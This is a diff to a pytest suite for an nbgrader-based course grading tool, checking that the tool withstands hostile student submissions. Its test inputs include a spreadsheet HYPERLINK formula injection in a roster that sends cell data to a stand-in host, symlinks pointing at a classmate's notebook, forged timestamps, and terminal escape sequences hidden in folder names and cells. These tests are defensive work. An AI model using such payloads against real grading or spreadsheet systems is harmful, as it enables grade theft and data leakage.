@@ -13,6 +13,8 @@ import csv
 import html
 import json
 import os
+import re
+import shutil
 import socket
 import subprocess
 import sys
@@ -22,6 +24,7 @@ import nbformat
 import pytest
 from quiz_helpers import (
     QUIZ_ROOT,
+    as_student,
     cell_by_id,
     clean_env,
     grades,
@@ -34,6 +37,7 @@ from quiz_helpers import (
     with_answers,
 )
 
+from venous_course_tools.instructor import collect as course_collect
 from venous_course_tools.instructor import integrity, workflow
 
 pytestmark = pytest.mark.slow
@@ -53,6 +57,23 @@ PARTIAL = {  # expected score per item in the comment
     "q9": 'q9 = {"E", "C", "A", "B"}',  # 3 right - 1 wrong = 2 of 4: 1.0 of 2
 }
 PARTIAL_SCORE = 1 + 0 + 2 + 2.0 + 0.5 + 2 + 2 + 0 + 1.0
+
+
+#: The other hostile students of the batch, all on the roster (a folder off the roster is
+#: never graded, so each attack must come from a real student to reach the grader).
+ON_ROSTER = [
+    "xss",
+    "deleted",
+    "asserttrue",
+    "stripped",
+    "badjson",
+    "copiedkey",
+    "missing",
+    "linkdir",
+    "linkfile",
+    "huge",
+    "eve",
+]
 
 
 def _attacks(canary: dict[str, str]) -> dict[str, tuple[dict[str, str], list[str], set[str]]]:
@@ -188,21 +209,21 @@ def batch(tmp_path_factory):
         (exchange / "venous-course" / "outbound" / QUIZ).mkdir(parents=True)
         mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
         course = make_course(tmp, [QUIZ])
+        server, hits, stop = _canary_server()
+        canary = {"port": str(server.getsockname()[1]), "trace": str(tmp / "trace")}
+        attacks = _attacks(canary)
         roster = tmp / "roster.csv"
         roster.write_text(
             "id,first_name,last_name,email\n"
             'good,"=HYPERLINK(""http://x.example/""&A1)",Good,g@example.org\n'
             "partial,+Part,@ial,p@example.org\n"
+            + "".join(f"{s},S,{s},{s}@example.org\n" for s in sorted(attacks) + ON_ROSTER)
         )
         cli(course, "students", str(roster))
         cli(course, "release", QUIZ, "--no-exchange")
         blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
         source_nb = read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")
         key = with_answers(blank, key_answers(source_nb))
-
-        server, hits, stop = _canary_server()
-        canary = {"port": str(server.getsockname()[1]), "trace": str(tmp / "trace")}
-        attacks = _attacks(canary)
         good = copy.deepcopy(key)
         cell_by_id(good, "q10-teachback").source = "A high reading can mean stiff arteries ..."
         submit_file(course, "good", QUIZ, good)
@@ -291,7 +312,7 @@ def test_every_submission_is_reported(batch):
     report = (batch["course"] / "reports" / f"{QUIZ}-autograde.md").read_text()
     assert "need attention" in report
     # the folder whose name holds a newline is one refused folder, never two students
-    assert "eve\\ngood" in out and "not a valid student id" in report
+    assert "eve\\\\x0agood" in out and "not a valid student id" in report
     assert "eve" not in rows
 
 
@@ -455,3 +476,364 @@ def test_formgrader_renders_student_html_as_text(batch, monkeypatch):
     shown = render(answer)
     assert "<script>" not in shown and "<img" not in shown and 'href="javascript' not in shown
     assert "&lt;script&gt;" in shown
+
+
+# ---------------------------------------------------------------------------- issue 30
+# A class that submits through the real exchange (nbgrader fetch_assignment / submit), with
+# hostile classmates who have shell access to their own exchange folders. Built once.
+
+HONEST = "amy"  # the classmate every attack is measured against
+TEACH_BACK = "A low ABPI means less blood reaches the foot, so tight bandaging could harm it."
+FUTURE = "2099-01-01 00:00:00.000000 UTC"
+ESCAPES = ("\x1b", "\x07", "\x9b", "\u202e")
+
+
+def _submit(home, exchange, student, nb):
+    """Fetch once per home, write the answers, submit with the real nbgrader command."""
+    path = home / QUIZ / f"{QUIZ}.ipynb"
+    if not path.exists():
+        home.mkdir(exist_ok=True)
+        as_student(student, home, exchange, "fetch_assignment", QUIZ)
+    nbformat.write(nb, path)
+    as_student(student, home, exchange, "submit", QUIZ)
+    inbound = exchange / "venous-course" / "inbound"
+    return max(inbound.glob(f"{student}+{QUIZ}+*"), key=lambda p: p.name)
+
+
+def _forge(template, name, nb=None, timestamp=None):
+    """What a student with a shell can leave in inbound/: a copy of a real submission."""
+    folder = template.parent / name
+    shutil.copytree(template, folder)
+    for path in folder.iterdir():
+        path.chmod(0o644)
+    if nb is not None:
+        nbformat.write(nb, folder / f"{QUIZ}.ipynb")
+    if timestamp is not None:
+        (folder / "timestamp.txt").write_text(timestamp)
+    return folder
+
+
+def _run(course, *args, env=None):
+    return subprocess.run(
+        [sys.executable, "-m", "venous_course_tools.instructor", "--course-dir", str(course)]
+        + list(args),
+        text=True,
+        capture_output=True,
+        timeout=600,
+        env=env,
+    )
+
+
+@pytest.fixture(scope="module")
+def exchange_class(tmp_path_factory):
+    with pytest.MonkeyPatch.context() as mp:
+        clean_env(mp)
+        tmp = tmp_path_factory.mktemp("exchange-class")
+        exchange = tmp / "exchange"
+        exchange.mkdir()
+        mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
+        course = make_course(tmp, [QUIZ])
+        on_roster = [HONEST, "ben", "mallory", "dangle", "ansi", "early", "future", "cells"]
+        on_roster += ["longtb", "notdict", "linkstudent"]
+        roster = tmp / "roster.csv"
+        roster.write_text(
+            "id,first_name,last_name,email\n"
+            + "".join(f"{s},{s.title()},S,{s}@example.org\n" for s in on_roster)
+        )
+        cli(course, "students", str(roster))
+        cli(course, "release", QUIZ)
+        blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
+        key = with_answers(blank, key_answers(read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")))
+        honest_nb = copy.deepcopy(key)
+        cell_by_id(honest_nb, "q10-teachback").source = TEACH_BACK
+
+        # 1. the honest classmate submits and is collected
+        _submit(tmp / "home-amy", exchange, HONEST, honest_nb)
+        cli(course, "collect", QUIZ)
+
+        # 2. mallory's inbound notebook becomes a relative link to amy's collected notebook,
+        #    with timestamp.txt far in the future; dangle's holds a dangling link
+        home = tmp / "home-shared"
+        mallory = _submit(home, exchange, "mallory", blank)
+        target = os.path.relpath(course / "submitted" / HONEST / QUIZ / f"{QUIZ}.ipynb", mallory)
+        (mallory / f"{QUIZ}.ipynb").chmod(0o644)
+        (mallory / f"{QUIZ}.ipynb").unlink()
+        (mallory / f"{QUIZ}.ipynb").symlink_to(target)
+        (mallory / "timestamp.txt").chmod(0o644)
+        (mallory / "timestamp.txt").write_text(FUTURE)
+        dangle = _submit(home, exchange, "dangle", blank)
+        (dangle / "extra.ipynb").symlink_to(tmp / "no-such-file.ipynb")
+        collect_links = _run(course, "collect", QUIZ)
+
+        # 3. mallory swaps the link for a plain file; the routine collect must not forget
+        (mallory / f"{QUIZ}.ipynb").unlink()
+        nbformat.write(blank, mallory / f"{QUIZ}.ipynb")
+
+        # the rest of the class, each with one attack
+        ben = _submit(home, exchange, "ben", with_answers(blank, PARTIAL))
+        stamp = ben.name.split("+")[2]
+        _forge(ben, f"ben\n+{QUIZ}+{stamp}", key)  # a second "ben" through the exchange
+        _forge(ben, f"ansi\x1b[2J\x1b]0;owned\x07+{QUIZ}+{stamp}", key)
+        ansi = copy.deepcopy(key)
+        cell_by_id(ansi, "q10-teachback").source = "\x1b[2J\x1b[HScore recorded: 17.5/17.5\x07"
+        ansi.cells.append(nbformat.v4.new_markdown_cell("x"))
+        ansi.cells[-1].metadata["nbgrader"] = {
+            "grade_id": "\x1b]0;owned\x07\x1b[31m",
+            "grade": False,
+        }
+        _forge(ben, f"ansi+{QUIZ}+{stamp}", ansi)
+        _forge(ben, f"early+{QUIZ}+{stamp}", key, timestamp="2020-01-01 00:00:00.000000 UTC")
+        _forge(ben, f"future+{QUIZ}+{FUTURE}", key, timestamp=FUTURE)
+        cells = json.loads(nbformat.writes(key))  # compact JSON: 45,000 cells in under 5 MB
+        cells["cells"] += [
+            {
+                "cell_type": "raw",
+                "id": f"u{i}",
+                "metadata": {"nbgrader": {"grade_id": f"u{i}"}},
+                "source": "",
+            }
+            for i in range(45_000)
+        ]
+        forged = _forge(ben, f"cells+{QUIZ}+{stamp}")
+        (forged / f"{QUIZ}.ipynb").write_text(json.dumps(cells, separators=(",", ":")))
+        longtb = copy.deepcopy(key)
+        cell_by_id(longtb, "q10-teachback").source = "Compression helps. " * 32_000  # 600 kB
+        _forge(ben, f"longtb+{QUIZ}+{stamp}", longtb)
+        notdict = copy.deepcopy(key)
+        notdict.cells[0].metadata["nbgrader"] = ["not", "a", "dict"]
+        _forge(ben, f"notdict+{QUIZ}+{stamp}", notdict)
+        _forge(ben, f"stranger+{QUIZ}+{stamp}", key)  # not on the roster
+        collect_rest = _run(course, "collect", QUIZ)
+        refused_after_swap = course_collect.refused_at_collect(course, QUIZ)
+        (course / "submitted" / "linkstudent").symlink_to(course / "submitted" / HONEST)
+        # a report left by an older grader, with the 1.9 MB note that broke every reader
+        reports = course / "reports"
+        (reports / f"{QUIZ}-autograde.csv").write_text(
+            "student_id,score,max_score,status,reason,notes\n"
+            f"cells,,17.5,needs manual grading,review,{'unknown grade id u1; ' * 95_000}\n"
+        )
+
+        autograde = _run(course, "autograde", QUIZ)
+        listing = _run(course, "grade", QUIZ)
+        feedback = _run(course, "feedback", QUIZ)
+        returned = _run(course, "return", QUIZ)
+        as_student(HONEST, tmp / "home-amy", exchange, "fetch_feedback", QUIZ)
+        export = _run(course, "export", QUIZ)
+        analysis = subprocess.run(
+            [sys.executable, "-m", "venous_course_tools.instructor.analysis_cli", QUIZ]
+            + ["--course-dir", str(course)],
+            text=True,
+            capture_output=True,
+            timeout=300,
+        )
+        rows = workflow.read_report(workflow.report_paths(course, QUIZ)[0])
+        mallory_copied = (course / "submitted" / "mallory").exists()
+        with (course / "grades" / f"{QUIZ}-lms.csv").open(newline="", encoding="utf-8") as fh:
+            lms = list(csv.DictReader(fh))
+        # mallory submits again, honestly: the refusal ends with a newer submission
+        _submit(home, exchange, "mallory", with_answers(blank, {"q1": 'q1 = "A"'}))
+        resubmitted = _run(course, "collect", QUIZ)
+        # and formgrader's route, plain nbgrader autograde, over the whole class
+        plain = nbgrader(["autograde", QUIZ, "--force"], cwd=course, ok=False)
+        yield {
+            "course": course,
+            "tmp": tmp,
+            "collect_links": collect_links,
+            "collect_rest": collect_rest,
+            "refused_after_swap": refused_after_swap,
+            "autograde": autograde,
+            "listing": listing,
+            "feedback": feedback,
+            "returned": returned,
+            "export": export,
+            "analysis": analysis,
+            "rows": rows,
+            "mallory_copied": mallory_copied,
+            "lms": lms,
+            "resubmitted": resubmitted,
+            "plain": plain,
+        }
+
+
+def test_a_classmate_s_full_marks_cannot_be_taken(exchange_class):
+    """Issue 30's worst break: a link to amy's notebook, a future timestamp, then a swap."""
+    course, rows = exchange_class["course"], exchange_class["rows"]
+    out = exchange_class["collect_links"]
+    assert out.returncode == 0, out.stdout + out.stderr
+    assert "mallory's submission in the exchange" in out.stdout
+    assert f"{QUIZ}.ipynb is a symbolic link" in out.stdout
+    # the swap did not make the next collect forget the refusal
+    assert "symbolic link" in exchange_class["refused_after_swap"]["mallory"]
+    assert rows["mallory"].status == "failed" and "symbolic link" in rows["mallory"].reason
+    assert not exchange_class["mallory_copied"]  # nothing was ever copied for mallory
+    assert not (course / "feedback" / "mallory").exists()
+    lms = {r["student_id"]: r for r in exchange_class["lms"]}
+    assert lms["mallory"]["score"] == "" and lms["mallory"]["status"].startswith("failed")
+    assert lms[HONEST]["score"] == f"{FULL_AUTO:g}"
+    # a newer honest submission of mallory's is collected, and the refusal is lifted
+    again = exchange_class["resubmitted"]
+    assert again.returncode == 0 and "1 new" in again.stdout, again.stdout + again.stderr
+    assert not course_collect.refused_at_collect(course, QUIZ).get("mallory")
+
+
+def test_a_dangling_link_never_stops_the_class(exchange_class):
+    out = exchange_class["collect_links"]
+    assert "Traceback" not in out.stderr and out.returncode == 0
+    assert "dangle's submission in the exchange" in out.stdout
+    assert "extra.ipynb is a symbolic link" in out.stdout
+    row = exchange_class["rows"]["dangle"]
+    assert row.status == "failed" and "extra.ipynb is a symbolic link" in row.reason
+
+
+def test_an_id_with_a_newline_is_refused_whole(exchange_class):
+    out = exchange_class["collect_rest"].stdout
+    assert f"'ben\\\\x0a+{QUIZ}+" in out and "not collected" in out
+    assert [r["student_id"] for r in exchange_class["lms"]].count("ben") == 1
+    assert exchange_class["rows"]["ben"].score == f"{PARTIAL_SCORE:g}"
+    with (exchange_class["course"] / "grades" / "nbgrader-grades.csv").open() as fh:
+        assert [r["student_id"] for r in csv.DictReader(fh)].count("ben") == 1
+
+
+def test_folders_off_the_roster_are_reported_not_graded(exchange_class):
+    course = exchange_class["course"]
+    assert "stranger is not on the roster" in exchange_class["collect_rest"].stdout
+    assert "submitted/stranger: not on the roster, not graded" in exchange_class["autograde"].stdout
+    assert "stranger" not in exchange_class["rows"]
+    from nbgrader.api import Gradebook
+
+    with Gradebook("sqlite:///" + str(course / "gradebook.db")) as gb:
+        assert "stranger" not in {s.id for s in gb.students}  # plain nbgrader did not add it
+    assert "stranger" not in {r["student_id"] for r in exchange_class["lms"]}
+
+
+def test_no_terminal_escape_reaches_the_instructor(exchange_class):
+    course = exchange_class["course"]
+    printed = [
+        exchange_class[k].stdout + exchange_class[k].stderr
+        for k in ("collect_rest", "autograde", "listing", "export")
+    ]
+    written = [p.read_text(encoding="utf-8") for p in (course / "reports").glob(f"{QUIZ}-*")]
+    written += [p.read_text(encoding="utf-8") for p in (course / "grades").glob("*.csv")]
+    for text in printed + written:
+        assert not [e for e in ESCAPES if e in text]
+    assert "\\x1b[2J" in exchange_class["listing"].stdout  # shown, as a visible escape
+    assert "ansi\\\\x1b[2J" in exchange_class["collect_rest"].stdout
+    assert any("\\x1b]0;owned" in n for n in exchange_class["rows"]["ansi"].notes)
+
+
+def test_a_submission_time_the_course_cannot_vouch_for_is_flagged(exchange_class):
+    from nbgrader.api import Gradebook
+
+    course, rows = exchange_class["course"], exchange_class["rows"]
+    for student, said in (("early", "timestamp.txt says 2020-01-01"), ("future", "after this")):
+        row = rows[student]
+        assert row.status == "needs manual grading", row
+        assert "submission time unclear" in row.reason and said in row.reason
+        assert f"{student}: submission time unclear" in exchange_class["collect_rest"].stdout
+    with Gradebook("sqlite:///" + str(course / "gradebook.db")) as gb:
+        early = gb.find_submission(QUIZ, "early").timestamp
+        future = gb.find_submission(QUIZ, "future").timestamp
+        honest = gb.find_submission(QUIZ, HONEST).timestamp
+    assert early.year == future.year == honest.year != 2020  # the student's date was not used
+    assert rows[HONEST].status == "needs manual grading" and rows[HONEST].reason == ""
+
+
+def test_a_notebook_with_45000_cells_breaks_nothing(exchange_class):
+    course, rows = exchange_class["course"], exchange_class["rows"]
+    row = rows["cells"]
+    assert row.status == "failed" and "45" in row.reason and "cells" in row.reason
+    csv_path, md_path = workflow.report_paths(course, QUIZ)
+    assert csv_path.stat().st_size < 50_000 and md_path.stat().st_size < 50_000
+    assert max(len(n) for r in rows.values() for n in r.notes) <= 400
+    for step in ("autograde", "export", "analysis"):
+        proc = exchange_class[step]
+        assert "Traceback" not in proc.stderr and "field larger" not in proc.stderr, step
+    assert exchange_class["export"].returncode == 0
+    assert exchange_class["analysis"].returncode in (0, 1)  # 1: too few students, in a sentence
+
+
+def test_a_long_teach_back_is_cut_for_display_only(exchange_class):
+    course = exchange_class["course"]
+    shown = cell_by_id(
+        read_nb(course / "autograded" / "longtb" / QUIZ / f"{QUIZ}.ipynb"), "q10-teachback"
+    ).source
+    assert len(shown) < 11_000 and "Cut for display" in shown
+    full = cell_by_id(
+        read_nb(course / "submitted" / "longtb" / QUIZ / f"{QUIZ}.ipynb"), "q10-teachback"
+    ).source
+    assert len(full) == len("Compression helps. ") * 32_000
+    assert len(exchange_class["listing"].stdout) < 100_000
+
+
+def test_metadata_that_is_not_a_dictionary_is_a_sentence(exchange_class):
+    row = exchange_class["rows"]["notdict"]
+    assert any("nbgrader metadata is not a dictionary" in n for n in row.notes), row
+    assert "AttributeError" not in row.reason + " ".join(row.notes)
+
+
+def test_a_student_folder_that_is_a_link_is_refused(exchange_class):
+    row = exchange_class["rows"]["linkstudent"]
+    assert row.status == "failed" and "symbolic link" in row.reason
+
+
+def test_plain_nbgrader_autograde_gets_the_same_checks(exchange_class):
+    """Formgrader's Autograde button runs this app: links, cells, roster are refused too."""
+    course, plain = exchange_class["course"], exchange_class["plain"]
+    assert plain.returncode != 0  # some submissions failed, and nbgrader says so
+    log = plain.stdout + plain.stderr
+    assert "more than the" in log and "symbolic link" in log
+    assert auto_score(course, HONEST) == FULL_AUTO
+    for student in ("cells", "linkstudent"):
+        assert not (course / "autograded" / student).exists()
+    from nbgrader.api import Gradebook
+
+    with Gradebook("sqlite:///" + str(course / "gradebook.db")) as gb:
+        assert "stranger" not in {s.id for s in gb.students}
+
+
+@pytest.fixture(scope="module")
+def honest_alone(tmp_path_factory):
+    """The same honest student in a class of one: what every hostile class must not change."""
+    with pytest.MonkeyPatch.context() as mp:
+        clean_env(mp)
+        tmp = tmp_path_factory.mktemp("honest-alone")
+        exchange = tmp / "exchange"
+        exchange.mkdir()
+        mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
+        course = make_course(tmp, [QUIZ])
+        roster = tmp / "roster.csv"
+        roster.write_text(f"id,first_name,last_name,email\n{HONEST},Amy,S,amy@example.org\n")
+        cli(course, "students", str(roster))
+        cli(course, "release", QUIZ)
+        blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
+        key = with_answers(blank, key_answers(read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")))
+        cell_by_id(key, "q10-teachback").source = TEACH_BACK
+        _submit(tmp / "home-amy", exchange, HONEST, key)
+        for step in ("collect", "autograde", "feedback", "return", "export"):
+            cli(course, step, QUIZ)
+        as_student(HONEST, tmp / "home-amy", exchange, "fetch_feedback", QUIZ)
+        yield {"course": course, "tmp": tmp}
+
+
+def _feedback_text(home):
+    """The feedback page a student fetched, without markup and the submission time."""
+    (page,) = (home / QUIZ / "feedback").rglob("*.html")
+    text = html.unescape(re.sub(r"<[^>]+>", " ", page.read_text(encoding="utf-8")))
+    return re.sub(r"\d{4}-\d\d-\d\d[ T][\d:.]+( UTC)?", "<time>", " ".join(text.split()))
+
+
+def _lms_row(course, student):
+    with (course / "grades" / f"{QUIZ}-lms.csv").open(newline="", encoding="utf-8") as fh:
+        return next(r for r in csv.DictReader(fh) if r["student_id"] == student)
+
+
+def test_an_honest_student_is_untouched_by_hostile_classmates(exchange_class, honest_alone):
+    hostile, alone = exchange_class["course"], honest_alone["course"]
+    for step in ("feedback", "returned", "export"):
+        proc = exchange_class[step]
+        assert proc.returncode == 0, (step, proc.stdout + proc.stderr)
+    assert grades(hostile, QUIZ, HONEST) == grades(alone, QUIZ, HONEST)
+    assert _lms_row(hostile, HONEST) == _lms_row(alone, HONEST)
+    hostile_page = _feedback_text(exchange_class["tmp"] / "home-amy")
+    assert hostile_page == _feedback_text(honest_alone["tmp"] / "home-amy")
+    assert TEACH_BACK in hostile_page and "Rationale." in hostile_page
